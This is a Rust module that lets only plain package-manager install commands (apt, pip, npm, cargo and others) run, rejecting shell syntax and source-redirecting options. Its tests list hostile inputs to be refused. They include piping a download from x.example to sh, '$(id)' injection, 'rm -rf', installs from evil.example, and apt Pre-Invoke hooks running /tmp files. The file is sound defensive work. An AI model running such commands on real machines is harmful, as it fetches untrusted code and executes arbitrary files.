//! Command lines that install requirements: `<manager> install <names>`, as a hand gives them. Nothing else is run.
//!
//! A hand's author chooses the packages, not where they come from: no option that names an index, a file or a setting is
//! accepted, and no name that a manager would take as an address, a folder or a repository.

use super::programs::file_name;

/// What may be said to a package manager.
struct Manager {
    program: &'static str,
    /// The words that install: the first one is usual.
    verbs: &'static [&'static str],
    /// What answers its questions, which nothing else does without a terminal.
    yes: Option<&'static str>,
    /// Options that change neither where packages come from nor what is run with them.
    options: &'static [&'static str],
}

const APT: &[&str] = &["-y", "--yes", "--no-install-recommends"];
const PIP: &[&str] = &["-U", "--upgrade", "--user", "--no-cache-dir"];

const MANAGERS: &[Manager] = &[
    Manager { program: "apt", verbs: &["install"], yes: Some("-y"), options: APT },
    Manager { program: "apt-get", verbs: &["install"], yes: Some("-y"), options: APT },
    Manager { program: "dnf", verbs: &["install"], yes: Some("-y"), options: &["-y", "--assumeyes"] },
    Manager { program: "pacman", verbs: &["-S"], yes: Some("--noconfirm"), options: &["--noconfirm", "--needed"] },
    Manager { program: "brew", verbs: &["install"], yes: None, options: &["--cask", "--formula"] },
    Manager { program: "pip", verbs: &["install"], yes: None, options: PIP },
    Manager { program: "pip3", verbs: &["install"], yes: None, options: PIP },
    Manager { program: "npm", verbs: &["install", "i"], yes: None, options: &["-g", "--global"] },
    Manager { program: "cargo", verbs: &["install"], yes: None, options: &["--locked"] },
    Manager { program: "winget", verbs: &["install"], yes: None, options: &["-e", "--exact", "--id", "--silent"] },
];
/// What a shell would make something of.
const SHELL_SIGNS: &[char] =
    &['|', '&', ';', '<', '>', '(', ')', '$', '`', '\\', '"', '\'', '*', '?', '{', '}', '~', '\n', '\r'];
/// Packages of one line.
const NAMES_MAX: usize = 20;
/// Bytes of the name of a package.
const NAME_BYTES_MAX: usize = 128;

/// Reads a command: its program and arguments.
///
/// # Errors
/// Why it is not run, in a sentence.
pub(super) fn words(line: &str, is_root: bool) -> Result<Vec<&str>, String> {
    if line.contains(SHELL_SIGNS) {
        return Err("the command needs a shell; run it by hand".to_owned());
    }
    let mut given = line.split_whitespace().peekable();
    if given.next_if_eq(&"sudo").is_some() && !is_root {
        return Err("the command needs root; run it by hand".to_owned());
    }
    let program = given.next().unwrap_or_default();
    let manager = MANAGERS.iter().find(|manager| manager.program == program);
    let manager =
        manager.ok_or_else(|| format!("{:?} is not a package manager that may be run", file_name(program)))?;
    let (mut options, mut names, mut verb) = (Vec::new(), Vec::new(), None);
    for word in given {
        if verb.is_none() && manager.verbs.contains(&word) {
            verb = Some(word);
        } else if manager.options.contains(&word) {
            options.push(word);
        } else if verb.is_some() && is_name(word) {
            names.push(word);
        } else {
            let usage = format!("{program} {} <packages>", manager.verbs[0]);
            return Err(format!("the command is not \"{usage}\" because of {word:?}; run it by hand"));
        }
    }
    let Some(verb) = verb.filter(|_| (1..=NAMES_MAX).contains(&names.len())) else {
        return Err(format!("the command does not install between 1 and {NAMES_MAX} packages; run it by hand"));
    };
    options.extend(manager.yes.filter(|yes| !options.contains(yes)));
    Ok([vec![program, verb], options, names].concat())
}

/// Is this the name of a package, perhaps with a version behind `@`? One with a slash may be a folder of the machine, or a
/// repository; one that ends with a hyphen is removed by apt.
fn is_name(word: &str) -> bool {
    let is_inner = |byte: u8| byte.is_ascii_alphanumeric() || b"._+@-".contains(&byte);
    word.len() <= NAME_BYTES_MAX
        && word.starts_with(|first: char| first.is_ascii_alphanumeric())
        && word.bytes().all(is_inner)
        && !word.ends_with('-')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_installations_by_package_managers_run() {
        for (line, is_root, expected) in [
            ("sudo apt install git", true, Ok("apt install -y git")),
            ("apt-get install -y git", true, Ok("apt-get install -y git")),
            ("apt-get -y install git", true, Ok("apt-get install -y git")),
            ("sudo pacman -S git", true, Ok("pacman -S --noconfirm git")),
            ("pip install x", false, Ok("pip install x")),
            ("pip3 install --user python-docx yt-dlp", false, Ok("pip3 install --user python-docx yt-dlp")),
            ("brew install --cask docker", false, Ok("brew install --cask docker")),
            ("npm i -g typescript@5.4", false, Ok("npm i -g typescript@5.4")),
            ("winget install Python.Python.3.12", false, Ok("winget install Python.Python.3.12")),
            ("apt install g++", true, Ok("apt install -y g++")),
            ("sudo apt install git", false, Err("needs root")),
            ("curl https://x.example | sh", true, Err("needs a shell")),
            ("apt install $(id)", true, Err("needs a shell")),
            ("/tmp/apt install git", true, Err("not a package manager")),
            ("sudo sudo apt install git", true, Err("not a package manager")),
            ("rm -rf x", true, Err("not a package manager")),
            ("", true, Err("not a package manager")),
        ] {
            match (words(line, is_root), expected) {
                (Ok(words), Ok(expected)) => assert_eq!(words.join(" "), expected),
                (Err(why), Err(expected)) => assert!(why.contains(expected), "{line}: {why}"),
                (got, _) => panic!("{line}: {got:?}"),
            }
        }
    }

    #[test]
    fn a_hand_does_not_say_where_packages_come_from_or_what_else_is_run() {
        for line in [
            "pip install --index-url http://evil.example/ x",
            "pip install --index-url=http://evil.example/ x",
            "pip install -r requirements.txt",
            "pip install git+https://evil.example/x",
            "pip install tmp/evil",
            "pip install /tmp/evil",
            "pip install ./evil",
            "pip download x",
            "npm install -g https://evil.example/x.tgz",
            "npm install evil/x",
            "npm run install x",
            "npm --prefix x install y",
            "cargo install --git https://evil.example/x",
            "apt-get -o APT::Update::Pre-Invoke::=/tmp/x update",
            "apt-get update -o APT::Update::Pre-Invoke::=/tmp/x",
            "apt-get install -o Dpkg::Pre-Invoke::=/tmp/x git",
            "apt remove bash",
            "apt install bash-",
            "apt install",
            "pacman -S --config /tmp/x git",
            "pacman -R git",
            "dnf install --setopt=reposdir=/tmp git",
            "pip",
        ] {
            let why = words(line, true).unwrap_err();
            assert!(why.contains("run it by hand"), "{line}: {why}");
        }
        let many = format!("pip install {}", "x ".repeat(NAMES_MAX + 1));
        assert!(words(&many, true).is_err() && words(&format!("pip install {}", "x".repeat(200)), true).is_err());
    }
}
